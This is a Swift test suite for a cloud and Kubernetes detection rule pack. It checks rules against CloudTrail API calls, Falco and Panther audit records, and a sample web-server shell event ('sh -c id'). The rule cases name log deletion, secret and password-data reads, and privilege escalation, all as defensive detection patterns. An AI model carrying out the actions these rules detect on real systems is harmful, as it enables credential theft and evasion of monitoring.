    cloud("vigil.cloud.cloudtrail-deleted", fires: true, "cloudtrail", "DeleteTrail"),
    cloud("vigil.cloud.cloudtrail-deleted", fires: false, "cloudtrail", "DescribeTrails"),
    cloud("vigil.cloud.cloudtrail-modified", fires: true, "cloudtrail", "UpdateTrail"),
    cloud("vigil.cloud.cloudtrail-modified", fires: true, "cloudtrail", "PutEventSelectors"),
    cloud("vigil.cloud.cloudtrail-modified", fires: false, "cloudtrail", "GetEventSelectors"),
    cloud("vigil.cloud.flow-logs-deleted", fires: true, "ec2", "DeleteFlowLogs"),
    cloud("vigil.cloud.flow-logs-deleted", fires: false, "ec2", "CreateFlowLogs"),
    cloud("vigil.cloud.dns-query-logs-deleted", fires: true, "route53resolver", "DeleteResolverQueryLogConfig"),
    cloud("vigil.cloud.dns-query-logs-deleted", fires: false, "route53resolver", "ListResolverQueryLogConfigs"),
    cloud("vigil.cloud.config-disabled", fires: true, "config", "StopConfigurationRecorder"),
    cloud("vigil.cloud.config-disabled", fires: true, "config", "DeleteDeliveryChannel"),
    cloud("vigil.cloud.config-disabled", fires: false, "config", "StartConfigurationRecorder"),
    cloud("vigil.cloud.log-group-deleted", fires: true, "logs", "DeleteLogGroup"),
    cloud("vigil.cloud.log-group-deleted", fires: false, "logs", "CreateLogGroup"),
    cloud("vigil.cloud.security-service-disabled", fires: true, "guardduty", "DeleteDetector"),
    cloud("vigil.cloud.security-service-disabled", fires: true, "guardduty", "CreateIPSet"),
    cloud("vigil.cloud.security-service-disabled", fires: true, "securityhub", "DisableSecurityHub"),
    cloud("vigil.cloud.security-service-disabled", fires: true, "access-analyzer", "DeleteAnalyzer"),
    cloud("vigil.cloud.security-service-disabled", fires: false, "guardduty", "ListDetectors"),
    cloud("vigil.cloud.security-service-disabled", fires: false, "inspector2", "Enable"),
    cloud("vigil.cloud.organization-left", fires: true, "organizations", "LeaveOrganization", error: "AccessDenied"),
    cloud("vigil.cloud.organization-left", fires: false, "organizations", "DescribeOrganization"),
    cloud("vigil.cloud.security-group-ingress", fires: true, "ec2", "AuthorizeSecurityGroupIngress"),
    cloud("vigil.cloud.security-group-ingress", fires: false, "ec2", "RevokeSecurityGroupIngress"),
    cloud(
        "vigil.cloud.ec2-run-instances-denied", fires: true, "ec2", "RunInstances",
        error: "Client.UnauthorizedOperation"),
    cloud("vigil.cloud.ec2-run-instances-denied", fires: false, "ec2", "RunInstances"),
    cloud("vigil.cloud.mfa-device-removed", fires: true, "iam", "DeactivateMFADevice"),
    cloud("vigil.cloud.mfa-device-removed", fires: false, "iam", "EnableMFADevice"),
    CloudCase(rule: "vigil.cloud.console-login-without-mfa", fires: true, service: "signin", action: "ConsoleLogin"),
    CloudCase(
        rule: "vigil.cloud.console-login-without-mfa", fires: true, service: "signin", action: "ConsoleLogin",
        principal: "arn:aws:iam::111122223333:root"),
    CloudCase(
        rule: "vigil.cloud.console-login-without-mfa", fires: false, service: "signin", action: "ConsoleLogin",
        mfa: true),
    CloudCase(
        rule: "vigil.cloud.console-login-without-mfa", fires: false, service: "signin", action: "ConsoleLogin",
        principal: "arn:aws:iam::111122223333:role/AWSReservedSSO_Admin_0123456789abcdef"),
    CloudCase(
        rule: "vigil.cloud.root-user-activity", fires: true, service: "iam", action: "CreateAccessKey",
        principal: "arn:aws:iam::111122223333:root"),
    cloud("vigil.cloud.root-user-activity", fires: false, "iam", "CreateAccessKey"),
    cloud("vigil.cloud.iam-user-created", fires: true, "iam", "CreateUser"),
    cloud("vigil.cloud.iam-user-created", fires: false, "iam", "GetUser"),
    cloud("vigil.cloud.iam-access-key-created", fires: true, "iam", "CreateAccessKey"),
    cloud("vigil.cloud.iam-access-key-created", fires: false, "iam", "ListAccessKeys"),
    cloud("vigil.cloud.iam-login-profile-created", fires: true, "iam", "CreateLoginProfile"),
    cloud("vigil.cloud.iam-login-profile-created", fires: false, "iam", "DeleteLoginProfile"),
    cloud("vigil.cloud.iam-login-profile-updated", fires: true, "iam", "UpdateLoginProfile"),
    cloud("vigil.cloud.iam-login-profile-updated", fires: false, "iam", "GetLoginProfile"),
    cloud("vigil.cloud.iam-policy-attached", fires: true, "iam", "AttachRolePolicy"),
    cloud("vigil.cloud.iam-policy-attached", fires: true, "iam", "PutUserPolicy"),
    cloud("vigil.cloud.iam-policy-attached", fires: false, "iam", "DetachRolePolicy"),
    cloud("vigil.cloud.iam-policy-version-changed", fires: true, "iam", "CreatePolicyVersion"),
    cloud("vigil.cloud.iam-policy-version-changed", fires: false, "iam", "GetPolicyVersion"),
    cloud("vigil.cloud.iam-role-trust-changed", fires: true, "iam", "UpdateAssumeRolePolicy"),
    cloud("vigil.cloud.iam-role-trust-changed", fires: false, "iam", "UpdateRole"),
    cloud("vigil.cloud.rolesanywhere-trust-anchor", fires: true, "rolesanywhere", "CreateTrustAnchor"),
    cloud("vigil.cloud.rolesanywhere-trust-anchor", fires: false, "rolesanywhere", "ListTrustAnchors"),
    cloud("vigil.cloud.sts-federation-token", fires: true, "sts", "GetFederationToken"),
    cloud("vigil.cloud.sts-federation-token", fires: false, "sts", "GetCallerIdentity"),
    cloud("vigil.cloud.lambda-code-changed", fires: true, "lambda", "UpdateFunctionCode"),
    cloud("vigil.cloud.lambda-code-changed", fires: false, "lambda", "GetFunction"),
    cloud("vigil.cloud.lambda-permission-added", fires: true, "lambda", "AddPermission"),
    cloud("vigil.cloud.lambda-permission-added", fires: false, "lambda", "RemovePermission"),
    cloud("vigil.cloud.secret-value-read", fires: true, "secretsmanager", "GetSecretValue"),
    cloud("vigil.cloud.secret-value-read", fires: false, "secretsmanager", "ListSecrets"),
    cloud("vigil.cloud.ssm-parameters-read", fires: true, "ssm", "GetParameters"),
    cloud("vigil.cloud.ssm-parameters-read", fires: false, "ssm", "DescribeParameters"),
    cloud("vigil.cloud.ec2-password-data", fires: true, "ec2", "GetPasswordData"),
    cloud("vigil.cloud.ec2-password-data", fires: false, "ec2", "DescribeInstances"),
    cloud("vigil.cloud.ec2-instance-attribute-read", fires: true, "ec2", "DescribeInstanceAttribute"),
    cloud("vigil.cloud.ec2-instance-attribute-read", fires: false, "ec2", "DescribeInstances"),
    cloud("vigil.cloud.ssm-command", fires: true, "ssm", "SendCommand"),
    cloud("vigil.cloud.ssm-command", fires: true, "ssm", "StartSession"),
    cloud("vigil.cloud.ssm-command", fires: false, "ssm", "GetCommandInvocation"),
    cloud("vigil.cloud.ec2-instance-attribute-modified", fires: true, "ec2", "ModifyInstanceAttribute"),
    cloud("vigil.cloud.ec2-instance-attribute-modified", fires: false, "ec2", "DescribeInstanceAttribute"),
    cloud("vigil.cloud.ec2-instance-connect", fires: true, "ec2-instance-connect", "SendSSHPublicKey"),
    cloud("vigil.cloud.ec2-instance-connect", fires: true, "ec2", "EnableSerialConsoleAccess"),
    cloud("vigil.cloud.ec2-instance-connect", fires: false, "ec2", "GetSerialConsoleAccessStatus"),
    cloud("vigil.cloud.snapshot-shared", fires: true, "ec2", "ModifySnapshotAttribute"),
    cloud("vigil.cloud.snapshot-shared", fires: true, "rds", "ModifyDBClusterSnapshotAttribute"),
    cloud("vigil.cloud.snapshot-shared", fires: false, "ec2", "DescribeSnapshotAttribute"),
    cloud("vigil.cloud.bedrock-model-access", fires: true, "bedrock", "PutUseCaseForModelAccess"),
    cloud("vigil.cloud.bedrock-model-access", fires: false, "bedrock", "ListFoundationModels"),
    cloud("vigil.cloud.bedrock-model-invoked", fires: true, "bedrock", "InvokeModel"),
    cloud("vigil.cloud.bedrock-model-invoked", fires: false, "bedrock", "GetFoundationModelAvailability"),
    cloud("vigil.cloud.kms-key-deletion", fires: true, "kms", "ScheduleKeyDeletion"),
    cloud("vigil.cloud.kms-key-deletion", fires: false, "kms", "CancelKeyDeletion"),
]

// MARK: - Kubernetes cases

/// A Kubernetes rule on one of Falco's real audit files (k8s-audit/falco/k8s_audit).
struct FalcoAuditCase: Sendable, CustomTestStringConvertible {
    let file: String
    let rule: String
    let fires: Bool
    var testDescription: String { "\(rule) \(fires ? "fires on" : "ignores") \(file)" }
}

let falcoAuditCases: [FalcoAuditCase] = [
    .init(file: "exec_pod.json", rule: "vigil.k8s.pod-exec", fires: true),
    .init(file: "attach_pod.json", rule: "vigil.k8s.pod-exec", fires: true),
    .init(file: "create_nginx_pod_unprivileged.json", rule: "vigil.k8s.pod-exec", fires: false),
    .init(file: "create_nginx_pod_privileged.json", rule: "vigil.k8s.privileged-pod", fires: true),
    .init(file: "create_nginx_pod_privileged_2nd_container.json", rule: "vigil.k8s.privileged-pod", fires: true),
    .init(
        file: "create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json",
        rule: "vigil.k8s.privileged-pod", fires: true),
    .init(file: "create_nginx_pod_unprivileged.json", rule: "vigil.k8s.privileged-pod", fires: false),
    .init(file: "create_nginx_pod_sensitive_mount.json", rule: "vigil.k8s.hostpath-pod", fires: true),
    .init(file: "create_nginx_pod_sensitive_mount_2nd_container.json", rule: "vigil.k8s.hostpath-pod", fires: true),
    .init(file: "create_nginx_pod_unprivileged.json", rule: "vigil.k8s.hostpath-pod", fires: false),
    .init(file: "create_nginx_pod_hostnetwork.json", rule: "vigil.k8s.host-namespaces-pod", fires: true),
    .init(file: "create_nginx_pod_nohostnetwork.json", rule: "vigil.k8s.host-namespaces-pod", fires: false),
    .init(file: "attach_cluster_admin_role.json", rule: "vigil.k8s.clusterrolebinding-write", fires: true),
    .init(file: "create_clusterrolebinding.json", rule: "vigil.k8s.clusterrolebinding-write", fires: true),
    .init(file: "delete_clusterrolebinding.json", rule: "vigil.k8s.clusterrolebinding-write", fires: false),
    .init(file: "create_cluster_role_wildcard_resources.json", rule: "vigil.k8s.clusterrole-write", fires: true),
    .init(file: "create_cluster_role_wildcard_verbs.json", rule: "vigil.k8s.clusterrole-write", fires: true),
    .init(file: "modify_cluster_role_node_problem_detector.json", rule: "vigil.k8s.clusterrole-write", fires: true),
    .init(file: "delete_clusterrole.json", rule: "vigil.k8s.clusterrole-write", fires: false),
    .init(file: "anonymous_creates_namespace_foo.json", rule: "vigil.k8s.anonymous-allowed", fires: true),
    .init(file: "some-user_creates_namespace_foo.json", rule: "vigil.k8s.anonymous-allowed", fires: false),
    .init(file: "create_secret.json", rule: "vigil.k8s.secret-read", fires: false),
]

/// A Kubernetes rule on a request built directly, for rules the real data sets have no events for.
struct KubernetesCase: Sendable, CustomTestStringConvertible {
    let rule: String
    let fires: Bool
    let user: String
    let verb: String
    let resource: String
    var subresource = ""
    var namespace = "default"
    var name = ""

    var testDescription: String {
        "\(rule) \(fires ? "fires on" : "ignores") \(user) \(verb) \(resource)\(subresource.isEmpty ? "" : "/" + subresource)"
            + (name.isEmpty ? "" : " \(namespace)/\(name)")
    }
}

let kubernetesCases: [KubernetesCase] = [
    .init(
        rule: "vigil.k8s.aws-auth-modified", fires: true, user: "alice", verb: "patch", resource: "configmaps",
        namespace: "kube-system", name: "aws-auth"),
    .init(
        rule: "vigil.k8s.aws-auth-modified", fires: false, user: "alice", verb: "get", resource: "configmaps",
        namespace: "kube-system", name: "aws-auth"),
    .init(
        rule: "vigil.k8s.aws-auth-modified", fires: false, user: "alice", verb: "patch", resource: "configmaps",
        namespace: "kube-system", name: "coredns"),
    .init(
        rule: "vigil.k8s.node-proxy", fires: true, user: "system:serviceaccount:ci:runner", verb: "create",
        resource: "nodes", subresource: "proxy", namespace: "", name: "node-1"),
    .init(
        rule: "vigil.k8s.node-proxy", fires: false, user: "alice", verb: "get", resource: "nodes", namespace: "",
        name: "node-1"),
    .init(
        rule: "vigil.k8s.csr-approved", fires: true, user: "alice", verb: "update",
        resource: "certificatesigningrequests", subresource: "approval", namespace: "", name: "csr-7xk2"),
    .init(
        rule: "vigil.k8s.csr-approved", fires: false, user: "system:kube-controller-manager", verb: "update",
        resource: "certificatesigningrequests", subresource: "approval", namespace: "", name: "node-csr-1"),
    .init(
        rule: "vigil.k8s.pod-exec", fires: true, user: "alice", verb: "patch", resource: "pods",
        subresource: "ephemeralcontainers", name: "web-1"),
]

/// Where Panther's labels (an alert or not) and a Vigil rule agree, record by record; `deviations` names the
/// records where they disagree on purpose, and why.
struct PantherMapping: Sendable, CustomTestStringConvertible {
    let pantherRule: String
    let vigilRules: [String]
    var deviations: [String: String] = [:]
    var testDescription: String { "\(vigilRules.joined(separator: ", ")) against Panther's \(pantherRule)" }
}

let pantherKubernetesMappings: [PantherMapping] = [
    .init(pantherRule: "Kubernetes.Pod.Exec", vigilRules: ["vigil.k8s.pod-exec"]),
    .init(
        pantherRule: "Kubernetes.API.AnonymousAccess", vigilRules: ["vigil.k8s.anonymous-allowed"]),
    .init(
        pantherRule: "Kubernetes.Pod.Privileged.Created", vigilRules: ["vigil.k8s.privileged-pod"],
        deviations: [
            "Run-As-Root Pod Created": "Vigil's rule is about securityContext.privileged, not running as root",
            "Pod with runAsUser=0 (root)": "Vigil's rule is about securityContext.privileged, not running as root",
            "Privileged Pod in System Namespace (Excluded)":
                "a controller's routine privileged pods are the profile's job",
        ]),
    .init(
        pantherRule: "Kubernetes.Pod.Host.IPC", vigilRules: ["vigil.k8s.host-namespaces-pod"],
        deviations: ["System Namespace with HostIPC (Excluded)": "kube-system's routine pods are the profile's job"]),
    .init(pantherRule: "Kubernetes.Pod.Host.Network", vigilRules: ["vigil.k8s.host-namespaces-pod"]),
    .init(pantherRule: "Kubernetes.Pod.Host.PID", vigilRules: ["vigil.k8s.host-namespaces-pod"]),
    .init(pantherRule: "Kubernetes.Pod.HostPath.Volume", vigilRules: ["vigil.k8s.hostpath-pod"]),
    .init(
        pantherRule: "Kubernetes.Pod.Dangerous.Capabilities", vigilRules: ["vigil.k8s.added-capabilities-pod"],
        deviations: ["Pod with Safe Capabilities Only": "which capabilities are added is not carried by events yet"]),
    .init(pantherRule: "Kubernetes.Secrets.DumpAllNamespaces", vigilRules: ["vigil.k8s.secrets-listed-cluster-wide"]),
    .init(
        pantherRule: "Kubernetes.ServiceAccount.TokenCreated", vigilRules: ["vigil.k8s.serviceaccount-token-created"]),
    .init(
        pantherRule: "Kubernetes.ClusterRoleBinding.Privileged", vigilRules: ["vigil.k8s.clusterrolebinding-write"],
        deviations: [
            "ClusterRoleBinding to non-privileged role": "the role bound is not carried by events yet",
            "System principal creating binding (excluded)": "a principal's routine bindings are the profile's job",
        ]),
    .init(
        pantherRule: "Kubernetes.BulkSecretAccess", vigilRules: ["vigil.k8s.secret-read"],
        deviations: [
            "System Principal Excluded": "which principals usually read secrets is the completed profile's job"
        ]),
]

// MARK: - Tests

@Suite("Built-in rule pack")
struct BuiltinRulesTests {
    // MARK: Loading and metadata

    @Test("application rules: SSRF payloads, metadata fetches and path traversal, and not ordinary requests")
    func applicationRules() {
        let symbols = SymbolTable()
        var b = EventBuilder(symbols: symbols)
        var runner = PackRunner(symbols: symbols)
        var encoder = EventEncoder(symbols: symbols)
        for item in applicationCases {
            let event = item.event(&b)
            let fired = runner.ruleIDs([event]).first ?? []
            #expect(fired.contains(item.rule) == item.fires, "\(item.rule): \(encoder.line(for: event))")
        }
    }

    @Test("the pack loads with no failure, in its four layers")
    func packLoads() {
        #expect(Pack.loaded.loadError == nil)
        #expect(Pack.loaded.failures.isEmpty, "\(Pack.loaded.failures)")
        #expect(Pack.loaded.entryErrors.isEmpty, "\(Pack.loaded.entryErrors)")
        #expect(BuiltinRules.files.map(\.lastPathComponent).starts(with: ["00-lists.yaml"]))
        #expect(Pack.rules(layer: "workload").count >= 30)
        #expect(Pack.rules(layer: "cloud").count >= 30)
        #expect(Pack.rules(layer: "k8s").count >= 12)
        #expect(Pack.rules(layer: "application").count >= 3)
        #expect(
            Pack.rules.count == Pack.rules(layer: "workload").count + Pack.rules(layer: "cloud").count
                + Pack.rules(layer: "k8s").count + Pack.rules(layer: "application").count)
    }

    @Test("every rule has a unique id, a name, a real description, an output with fields and a severity")
    func ruleMetadata() {
        var seen: Set<String> = []
        for rule in Pack.rules {
            #expect(seen.insert(rule.id).inserted, "duplicate id \(rule.id)")
            let slug = rule.id.split(separator: ".").last.map(String.init) ?? ""
            #expect(
                rule.id.split(separator: ".").count == 3 && !slug.isEmpty
                    && slug.allSatisfy { $0.isLowercase || $0.isNumber || $0 == "-" },
                "\(rule.id): ids are vigil.<layer>.<slug>")
            #expect(!rule.name.isEmpty && rule.name != rule.id, "\(rule.id)")
            #expect(rule.description.count >= 100, "\(rule.id): the description says what and why")
            #expect(
                rule.description.hasSuffix(".") || rule.description.hasSuffix(".)"), "\(rule.id): \(rule.description)")
            #expect(rule.output.contains("%"), "\(rule.id): the output names fields")
            #expect(rule.severity != .info, "\(rule.id)")
            #expect(rule.source == "vigil", "\(rule.id)")
            #expect(rule.enabled, "\(rule.id)")
            #expect(rule.tags.contains(rule.mitre.technique), "\(rule.id): its tags name its technique")
        }
    }

    @Test("every rule is checked only against its layer's event kinds")
    func kindsMatchLayers() {
        for rule in Pack.rules {
            #expect(!rule.kinds.isEmpty, "\(rule.id) is checked against no event")
            let expected: Layer
            switch rule.id.split(separator: ".")[1] {
            case "workload": expected = .workload
            case "cloud": expected = .cloud
            case "application": expected = .application
            default: expected = .cluster
            }
            #expect(rule.kinds.allSatisfy { $0.layer == expected }, "\(rule.id): \(rule.kinds.map(\.name).sorted())")
        }
    }

    @Test("every rule maps to a current ATT&CK technique of its tactic")
    func mitreMappings() throws {
        let catalog = try TechniqueCatalog()
        #expect(catalog.techniques.count > 600)
        for rule in Pack.rules {
            guard let technique = catalog.techniques[rule.mitre.technique] else {
                Issue.record("\(rule.id): \(rule.mitre.technique) is not an ATT&CK Enterprise technique")
                continue
            }
            #expect(!technique.retired, "\(rule.id): \(technique.id) is deprecated or revoked")
            #expect(
                technique.tactics.contains(rule.mitre.tactic.name),
                "\(rule.id): \(technique.id) (\(technique.name)) is \(technique.tactics.sorted()), not \(rule.mitre.tactic.name)"
            )
        }
    }

    @Test("every %field of every output is a field Vigil knows")
    func outputFieldsResolve() throws {
        var names: Set<String> = []
        for rule in Pack.rules {
            var rest = Substring(rule.output)
            while let percent = rest.firstIndex(of: "%") {
                rest = rest[rest.index(after: percent)...]
                let name = rest.prefix { $0.isLetter || $0.isNumber || $0 == "." || $0 == "_" }
                if !name.isEmpty { names.insert(String(name.hasSuffix(".") ? name.dropLast() : name)) }
            }
        }
        #expect(names.count > 20)
        var yaml = ""
        for name in names.sorted() {
            yaml += """
                - rule: probe \(name)
                  desc: d
                  condition: \(name) exists
                  output: x
                  priority: WARNING
                  tags: [mitre_execution, T1059]

                """
        }
        var loader = RuleLoader()
        try loader.addFile(text: yaml, name: "probe.yaml")
        let compiled = loader.compile()
        #expect(compiled.failures.isEmpty, "\(compiled.failures)")
    }

    @Test("every rule has at least one case where it fires and one where it does not")
    func everyRuleIsTested() {
        var positives: Set<String> = []
        var negatives: Set<String> = []
        for item in workloadCases { _ = item.fires ? positives.insert(item.rule) : negatives.insert(item.rule) }
        for item in cloudCases { _ = item.fires ? positives.insert(item.rule) : negatives.insert(item.rule) }
        for item in falcoAuditCases { _ = item.fires ? positives.insert(item.rule) : negatives.insert(item.rule) }
        for item in kubernetesCases { _ = item.fires ? positives.insert(item.rule) : negatives.insert(item.rule) }
        for item in applicationCases { _ = item.fires ? positives.insert(item.rule) : negatives.insert(item.rule) }
        for mapping in pantherKubernetesMappings {
            positives.formUnion(mapping.vigilRules)
            negatives.formUnion(mapping.vigilRules)
        }
        for rule in Pack.rules {
            #expect(positives.contains(rule.id), "\(rule.id) has no case where it fires")
            #expect(negatives.contains(rule.id), "\(rule.id) has no case where it stays quiet")
        }
        for id in positives.union(negatives) {
            #expect(Pack.rule(id) != nil, "a case names \(id), which is not loaded")
        }
    }

    // MARK: Workload

    @Test("workload rules", arguments: workloadCases)
    func workloadRule(_ item: WorkloadCase) {
        #expect(Pack.rule(item.rule) != nil, "\(item.rule) is not loaded")
        let symbols = SymbolTable()
        var events = WorkloadEvents(symbols: symbols, inContainer: !item.onHost)
        let sequence = item.events(&events)
        var runner = PackRunner(symbols: symbols)
        let matched = runner.ruleIDs(sequence).last ?? []
        #expect(matched.contains(item.rule) == item.fires, "rules that matched: \(matched)")
    }

    @Test("a finding's explanation is the rule's output with the event's values")
    func explanation() throws {
        let symbols = SymbolTable()
        var events = WorkloadEvents(symbols: symbols)
        var runner = PackRunner(symbols: symbols)
        let findings = runner.findings([
            events.exec(pid: 100, "/usr/sbin/nginx", ["nginx: worker process"]),
            events.exec(pid: 101, parent: 100, "/bin/sh", ["sh", "-c", "id"]),
        ])
        let finding = try #require(findings[1].first { $0.rule.id == "vigil.workload.shell-from-server" })
        #expect(finding.severity == .high)
        #expect(finding.mitre.technique == "T1059.004" && finding.mitre.tactic == .execution)
        #expect(finding.explanation.hasPrefix("Shell spawned by server process nginx (shell=sh cmdline=sh -c id"))
        #expect(finding.explanation.contains("container=3f4e9a0c2b7d workload=shop/Deployment/web/web namespace=shop)"))
    }

    @Test("Falco's rule files loaded after the pack leave its rules as they are")
    func falcoRulesAlongside() throws {
        let (set, _) = try RuleSet.load(files: [PackData.path("rules/falco/falco_rules.yaml")], builtin: true)
        let vigil = set.rules.filter { $0.source == "vigil" }
        #expect(Set(vigil.map(\.id)) == Set(Pack.rules.map(\.id)))
        #expect(set.rules.count > vigil.count)
        // Falco defines shell_binaries, spawned_process, open_write… : the pack's rules must not pick them up.
        for item in workloadCases {
            let symbols = SymbolTable()
            var events = WorkloadEvents(symbols: symbols, inContainer: !item.onHost)
            var runner = PackRunner(symbols: symbols, rules: vigil)
            let matched = runner.ruleIDs(item.events(&events)).last ?? []
            #expect(matched.contains(item.rule) == item.fires, "\(item.testDescription): \(matched)")
        }
    }

    // MARK: Cloud

    @Test("cloud rules", arguments: cloudCases)
    func cloudRule(_ item: CloudCase) {
        #expect(Pack.rule(item.rule) != nil, "\(item.rule) is not loaded")
        let symbols = SymbolTable()
        var runner = PackRunner(symbols: symbols)
        let matched = runner.ruleIDs([item.event(symbols)])[0]
        #expect(matched.contains(item.rule) == item.fires, "rules that matched: \(matched)")
    }

    @Test("cloud rules ignore other providers' calls of the same name")
    func cloudRulesAreAWSOnly() {
        let symbols = SymbolTable()
        var runner = PackRunner(symbols: symbols)
        let event = Event(
            time: 1, kind: .cloudAPICall, principal: symbols.intern("alice@example.com"),
            fields: .cloud(
                CloudFields(provider: .gcp, service: symbols.intern("iam"), action: symbols.intern("CreateUser"))))
        #expect(runner.ruleIDs([event])[0].isEmpty)
    }

    /// Panther's labelled CloudTrail records (cloudtrail/panther/aws_cloudtrail_rules.tests.jsonl): for the
    /// Panther rules that detect what a Vigil rule detects, every record Panther alerts on raises the Vigil
    /// rule, and every record it does not alert on does not, except the deviations named with their reason.
    @Test("cloud rules agree with Panther's labelled CloudTrail records")
    func pantherCloudTrail() throws {
        let mappings: [PantherMapping] = [
            .init(
                pantherRule: "AWS.CloudTrail.Stopped",
                vigilRules: ["vigil.cloud.cloudtrail-stopped", "vigil.cloud.cloudtrail-deleted"],
                deviations: ["Error Stopping CloudTrail": "Vigil reports denied attempts too"]),
            .init(
                pantherRule: "AWS.Console.LoginWithoutMFA", vigilRules: ["vigil.cloud.console-login-without-mfa"],
                deviations: [
                    "MFA Login - SAML": "the SAML provider of a console login is not carried by events yet",
                    "No MFA Login - New User": "a user's first login needs state (the user's creation)",
                ]),
            .init(
                pantherRule: "AWS.Root.Activity", vigilRules: ["vigil.cloud.root-user-activity"],
                deviations: [
                    "Root Activity - CreateServiceLinkedRole":
                        "every root call is reported; routine ones are the profile's job",
                    "Root Read-Only Enumeration": "every root call is reported; routine ones are the profile's job",
                ]),
            .init(
                pantherRule: "AWS.ConfigService.DisabledDeleted", vigilRules: ["vigil.cloud.config-disabled"],
                deviations: ["Error Deleting Config Recorder": "Vigil reports denied attempts too"]),
            .init(pantherRule: "AWS.VPCFlow.LogsDeleted", vigilRules: ["vigil.cloud.flow-logs-deleted"]),
            .init(pantherRule: "AWS.CloudTrail.DNSLogsDeleted", vigilRules: ["vigil.cloud.dns-query-logs-deleted"]),
            .init(pantherRule: "AWS.CloudTrail.AttemptToLeaveOrg", vigilRules: ["vigil.cloud.organization-left"]),
            .init(
                pantherRule: "AWS.KMS.CustomerManagedKeyLoss", vigilRules: ["vigil.cloud.kms-key-deletion"],
                deviations: ["KMS Disable Key Error": "Vigil reports denied attempts too"]),
            .init(pantherRule: "AWS.Potential.Backdoor.Lambda", vigilRules: ["vigil.cloud.lambda-permission-added"]),
            .init(pantherRule: "AWS.Macie.Evasion", vigilRules: ["vigil.cloud.security-service-disabled"]),
            .init(
                pantherRule: "AWS.IAM.Backdoor.User.Keys", vigilRules: ["vigil.cloud.iam-access-key-created"],
                deviations: [
                    "user1 create keys for user1":
                        "whose key it is needs the request's userName compared with the caller",
                    "CreateKey returns error code": "Vigil reports denied attempts too",
                ]),
            .init(
                pantherRule: "AWS.CloudTrail.SnapshotMadePublic", vigilRules: ["vigil.cloud.snapshot-shared"],
                deviations: [
                    "Snapshot Not Made Publicly Accessible": "who the snapshot is shared with is a request parameter",
                    "Error Making Snapshot Publicly Accessible": "Vigil reports denied attempts too",
                ]),
            .init(
                pantherRule: "AWS.SSM.DecryptSSMParams", vigilRules: ["vigil.cloud.ssm-parameters-read"],
                deviations: ["Accessed Parameters Aren't Encrypted": "withDecryption is a request parameter"]),
        ]
        try checkPanther(
            mappings, file: "cloudtrail/panther/aws_cloudtrail_rules.tests.jsonl",
            minimumRecords: 40
        ) { line, symbols in
            var decoder = try CloudEventDecoder(bytes: Array(line.utf8), symbols: symbols)
            var batch = EventBatch()
            while decoder.fill(&batch, upTo: 100) {}
            return Array(batch.events)
        }
    }

    // MARK: Kubernetes

    @Test("Kubernetes rules on Falco's real audit events", arguments: falcoAuditCases)
    func falcoAuditFile(_ item: FalcoAuditCase) throws {
        #expect(Pack.rule(item.rule) != nil, "\(item.rule) is not loaded")
        let symbols = SymbolTable()
        var parser = KubernetesAuditParser(symbols: symbols)
        var batch = EventBatch()
        let bytes = try Data(contentsOf: URL(fileURLWithPath: PackData.path("k8s-audit/falco/k8s_audit/" + item.file)))
        parser.parse(document: Array(bytes), into: &batch)
        #expect(batch.count > 0, "\(item.file) yields no event")
        var runner = PackRunner(symbols: symbols)
        let matched = Set(runner.ruleIDs(Array(batch.events)).flatMap { $0 })
        #expect(matched.contains(item.rule) == item.fires, "rules that matched: \(matched.sorted())")
    }

    @Test("Kubernetes rules on requests the data sets lack", arguments: kubernetesCases)
    func kubernetesRule(_ item: KubernetesCase) {
        #expect(Pack.rule(item.rule) != nil, "\(item.rule) is not loaded")
        let symbols = SymbolTable()
        var builder = EventBuilder(symbols: symbols)
        let event = builder.kubernetesRequest(
            user: item.user, verb: item.verb, resource: item.resource, namespace: item.namespace, name: item.name,
            subresource: item.subresource)
        var runner = PackRunner(symbols: symbols)
        let matched = runner.ruleIDs([event])[0]
        #expect(matched.contains(item.rule) == item.fires, "rules that matched: \(matched)")
    }

    /// Panther's labelled Kubernetes audit records (EKS, AKS and GKE shapes), as for CloudTrail above.
    @Test("Kubernetes rules agree with Panther's labelled audit records")
    func pantherKubernetes() throws {
        try checkPanther(
            pantherKubernetesMappings, file: "k8s-audit/panther/kubernetes_rules.tests.jsonl", minimumRecords: 60
        ) { line, symbols in
            var parser = KubernetesAuditParser(symbols: symbols)
            var batch = EventBatch()
            parser.parse(line: line, into: &batch)
            return Array(batch.events)
        }
    }

    private func checkPanther(
        _ mappings: [PantherMapping], file: String, minimumRecords: Int,
        events: (String, SymbolTable) throws -> [Event]
    ) throws {
        let text = try String(contentsOfFile: PackData.path(file), encoding: .utf8)
        var checked = 0
        var deviationsSeen: Set<String> = []
        for line in text.split(separator: "\n") {
            guard let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any],
                let pantherRule = object["rule_id"] as? String, let expected = object["expected_match"] as? Bool,
                let name = object["test_name"] as? String,
                let mapping = mappings.first(where: { $0.pantherRule == pantherRule })
            else { continue }
            let logData = try JSONSerialization.data(withJSONObject: object["log"] ?? [:])
            let symbols = SymbolTable()
            let parsed = try events(String(decoding: logData, as: UTF8.self), symbols)
            guard !parsed.isEmpty else { continue }  // a record the parser skips (hand-edited, incomplete)
            var runner = PackRunner(symbols: symbols)
            let matched = Set(runner.ruleIDs(parsed).flatMap { $0 })
            let fired = !matched.isDisjoint(with: mapping.vigilRules)
            checked += 1
            if let reason = mapping.deviations[name] {
                deviationsSeen.insert(name)
                #expect(
                    fired != expected, "\(pantherRule) \"\(name)\" was a known deviation (\(reason)) and now agrees")
            } else {
                #expect(
                    fired == expected,
                    "\(pantherRule) \"\(name)\": Panther \(expected ? "alerts" : "does not alert"), Vigil matched \(matched.sorted())"
                )
            }
        }
        #expect(checked >= minimumRecords)
        for mapping in mappings {
            for name in mapping.deviations.keys where !deviationsSeen.contains(name) {
                Issue.record("\(mapping.pantherRule): no record named \"\(name)\"")
            }
        }
    }
}
